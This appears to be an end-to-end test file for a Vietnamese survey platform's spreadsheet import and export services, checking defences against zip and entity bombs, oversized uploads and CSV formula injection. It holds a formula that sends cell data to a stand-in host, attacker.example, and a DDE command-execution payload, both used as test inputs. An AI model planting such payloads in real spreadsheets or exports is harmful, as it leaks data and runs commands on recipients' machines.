"""Sheets as an attacker, or an unlucky user, sends them, and the exports they end up in, over the
running services (issue 11, items 1, 6, 7, 10 and the CSV part of 11)."""

import csv
import io
import threading
import time
import uuid

import httpx
import pytest
from openpyxl import load_workbook
from pymongo import MongoClient

from deploy.lang_son import to_csv
from tests.e2e.test_drafts_and_exports import draft
from tests.e2e.test_flow import submit
from tests.e2e.test_par_survey import survey  # noqa: F401 - the fixture
from tests.support import hostile_sheets
from tests.support.platform import TLS, bearer, eventually

pytestmark = pytest.mark.e2e
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = {
    "huge_dimension": hostile_sheets.huge_dimension(),
    "far_rows": hostile_sheets.far_rows(),
    "zip_bomb": hostile_sheets.zip_bomb(),
    "entity_bomb": hostile_sheets.entity_bomb(),
}


def _upload(base: str, path: str, auth: dict, body: bytes, content_type: str = XLSX) -> httpx.Response:
    return httpx.post(base + path, content=body, headers={**auth, "Content-Type": content_type}, timeout=60, verify=TLS)


def test_hostile_xlsx_is_refused_on_every_upload_while_sign_in_answers(client, admin, survey):  # noqa: F811
    province = survey["province"]["unit_id"]
    targets = [
        (client.accounts, "/units/import", admin),
        (client.accounts, "/accounts/import", admin),
        (client.forms, f"/surveys/{survey['id']}/lists/{province}/import", survey["auth"]["province"]),
    ]
    for http, path, auth in targets:
        for name, body in HOSTILE.items():
            started = time.monotonic()
            response = _upload(str(http.base_url).rstrip("/"), path, auth, body)
            assert response.status_code == 422, (path, name, response.text)
            assert response.json()["error"]["code"] in (
                "too_many_columns",
                "too_many_rows",
                "sheet_too_large",
                "unreadable_sheet",
            ), name
            assert time.monotonic() - started < 10, (path, name)

    # Sign-in keeps answering while hostile sheets keep coming.
    stop = threading.Event()
    accounts_url = str(client.accounts.base_url).rstrip("/")

    def attack() -> None:
        while not stop.is_set():
            _upload(accounts_url, "/units/import", admin, HOSTILE["huge_dimension"])

    attackers = [threading.Thread(target=attack) for _ in range(3)]
    for a in attackers:
        a.start()
    try:
        tag = uuid.uuid4().hex[:6]
        account = client.new_account(admin, province, f"s.in.{tag}", "province_supervisor")
        for _ in range(5):
            started = time.monotonic()
            response = client.accounts.post(
                "/auth/token", json={"username": account["username"], "password": account["initial_password"]}
            )
            assert response.status_code == 200
            assert time.monotonic() - started < 5  # bench.hostile_upload measures the real figure
    finally:
        stop.set()
        for a in attackers:
            a.join()


def test_the_role_is_checked_before_the_sheet_is_read(client, district):
    sheet = to_csv([{"code": "x1", "name": "X", "level": "commune", "parent_code": district["district"]["code"]}])
    for path in ("/units/import", "/accounts/import"):
        for auth in (district["a_auth"], district["supervisor_auth"]):
            response = client.accounts.post(path, content=sheet, headers={**auth, "Content-Type": "text/csv"})
            assert response.status_code == 403, response.text
            # A hostile sheet from someone who may not upload is never even opened.
            response = client.accounts.post(
                path, content=HOSTILE["huge_dimension"], headers={**auth, "Content-Type": XLSX}
            )
            assert response.status_code == 403


def test_an_upload_past_the_cap_is_refused_unread(client, admin):
    rows = [
        {"code": f"big{i}", "name": "Đơn vị " + "x" * 300, "level": "commune", "parent_code": "nope"}
        for i in range(1000)
    ]
    body = to_csv(rows)
    assert 300_000 < len(body) < 1_000_000  # over the uploads' cap, under the shell's body limit
    response = client.accounts.post("/units/import", content=body, headers={**admin, "Content-Type": "text/csv"})
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"
    assert "vượt quá 300 KB" in response.json()["error"]["message"]


def test_csv_line_ends_and_broken_quotes_are_never_a_500(client, survey):  # noqa: F811
    province, auth, t = survey["province"]["unit_id"], survey["auth"]["province"], survey["t"]
    path = f"/surveys/{survey['id']}/lists/{province}/import"
    # Old Mac line ends (a bare carriage return), one inside a quoted field too.
    body = (f'Họ và tên,Thư điện tử,Nhóm đối tượng\r"Nguyễn\rVăn A",cr.{t}@nghean.gov.vn,Lãnh đạo cấp sở\r').encode()
    response = client.forms.post(path, content=body, headers={**auth, "Content-Type": "text/csv"})
    assert response.status_code == 200, response.text
    listed = client.forms.get(f"/surveys/{survey['id']}/lists/{province}", headers=auth).json()["respondents"]
    assert [p["full_name"] for p in listed] == ["Nguyễn Văn A"]
    broken = ('Họ và tên,Thư điện tử\n"' + "x" * 200_000 + '",a@b.vn\n').encode()
    response = client.forms.post(path, content=broken, headers={**auth, "Content-Type": "text/csv"})
    assert response.status_code == 422 and response.json()["error"]["code"] == "malformed_csv"


def test_the_csv_template_filled_in_is_accepted(client, survey):  # noqa: F811
    province, auth, t = survey["province"]["unit_id"], survey["auth"]["province"], survey["t"]
    lists = f"/surveys/{survey['id']}/lists/{province}"
    template = client.forms.get(f"{lists}/template", params={"format": "csv"}, headers=auth)
    assert template.status_code == 200
    text = template.content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    assert header == ["Họ và tên", "Thư điện tử", "Nhóm đối tượng", "Chức vụ", "Cơ quan, đơn vị"]
    out = io.StringIO()
    csv.writer(out).writerow(
        ["Trần Thị B", f"tpl.{t}@nghean.gov.vn", "Lãnh đạo cấp sở", "Phó Giám đốc", "Sở Nội vụ, tỉnh Nghệ An"]
    )
    filled = (text + out.getvalue()).encode("utf-8-sig")
    response = client.forms.post(f"{lists}/import", content=filled, headers={**auth, "Content-Type": "text/csv"})
    assert response.status_code == 200, response.text
    assert response.json()["total"] == 1


def _table(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_exports_never_carry_a_live_formula(client, admin):
    tag = uuid.uuid4().hex[:6]
    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
    province = client.new_unit(admin, "root", f"F{tag}", f"Tỉnh {tag}", "province")
    unit = client.new_unit(admin, province["unit_id"], f"FU{tag}", evil, "agency")
    issued = client.accounts.post(
        "/accounts/import",
        headers={**admin, "Content-Type": "text/csv"},
        content=to_csv(
            [
                {
                    "username": f"f.{tag}",
                    "unit_code": f"FU{tag}",
                    "role": "reporting_unit",
                    "display_name": "+1-1",
                    "email": "",
                }
            ]
        ),
    )
    assert issued.status_code == 201, issued.text
    credentials = _table(client.accounts.get(issued.json()["credentials"], params={"format": "csv"}, headers=admin))
    assert credentials[1][4] == "'" + evil
    auth = client.login(f"f.{tag}", credentials[1][1])

    campaign = f"formula-{tag}"
    answers = {
        **__import__("tests.support.answers", fromlist=["valid_hc_tb"]).valid_hc_tb(),
        "A1.1": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    assert submit(client, auth, unit["unit_id"], answers=answers, campaign=campaign).status_code == 201
    params = {"campaign_id": campaign, "form_code": "1/HC-TB"}
    table = _table(client.forms.get("/exports/submissions", params={**params, "format": "csv"}, headers=admin))
    row = dict(zip(table[0], table[1], strict=True))
    assert row["Tên đơn vị"] == "'" + evil
    assert next(v for k, v in row.items() if k.startswith("A1.1 ")) == "'@SUM(1+1)*cmd|' /C calc'!A0"
    book = load_workbook(
        io.BytesIO(client.forms.get("/exports/submissions", params={**params, "format": "xlsx"}, headers=admin).content)
    )
    cells = [c for r in book.active.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert evil in [c.value for c in cells]

    def progress_row():
        response = client.approvals.get(
            f"/progress/{campaign}/export", headers=admin, params={"area": province["unit_id"], "format": "csv"}
        )
        return response.status_code == 200 and _table(response)

    progress = eventually(progress_row)
    assert progress[1][1] == "'" + evil


def test_a_control_character_is_refused_and_one_stored_before_cannot_break_an_export(
    client, admin, district, platform, mongo_url
):
    campaign, unit = f"ctl-{uuid.uuid4().hex[:6]}", district["unit_a"]["unit_id"]
    refused = draft(client, district["a_auth"], unit, {"A1.1": "Xã\u000bA"}, campaign)
    assert refused.status_code == 422
    assert "U+000B" in refused.json()["error"]["errors"][0]["message"]
    renamed = client.accounts.put(f"/units/{unit}/name", headers=admin, json={"name": "Xã\u0007A", "reason": "thử"})
    assert renamed.status_code == 422

    # One stored before the fix: the export replaces it rather than fail.
    saved = draft(client, district["a_auth"], unit, {"A1.1": "Xã A"}, campaign)
    assert saved.status_code == 200
    with MongoClient(mongo_url) as mongo:
        mongo[platform["forms"].env["DATABASE"]]["submissions"].update_one(
            {"_id": saved.json()["submission_id"], "answers.field": "A1.1"},
            {"$set": {"answers.$.value": "Xã\u000bA\u0000"}},
        )
    export = client.forms.get(
        "/exports/submissions",
        headers=admin,
        params={"campaign_id": campaign, "form_code": "1/HC-TB", "format": "xlsx"},
    )
    assert export.status_code == 200 and export.content
    values = [c for r in load_workbook(io.BytesIO(export.content)).active.iter_rows(values_only=True) for c in r]
    assert "Xã\ufffdA\ufffd" in values


def test_a_token_is_no_key_to_someone_elses_list(client, survey):  # noqa: F811
    province = survey["province"]["unit_id"]
    response = client.forms.post(
        f"/surveys/{survey['id']}/lists/{province}/import",
        content=HOSTILE["zip_bomb"],
        headers={**survey["auth"]["other"], "Content-Type": XLSX},
    )
    assert response.status_code == 404
    assert (
        client.forms.post(
            f"/surveys/{survey['id']}/lists/{province}/import",
            content=b"a",
            headers={**bearer("x"), "Content-Type": "text/csv"},
        ).status_code
        == 401
    )
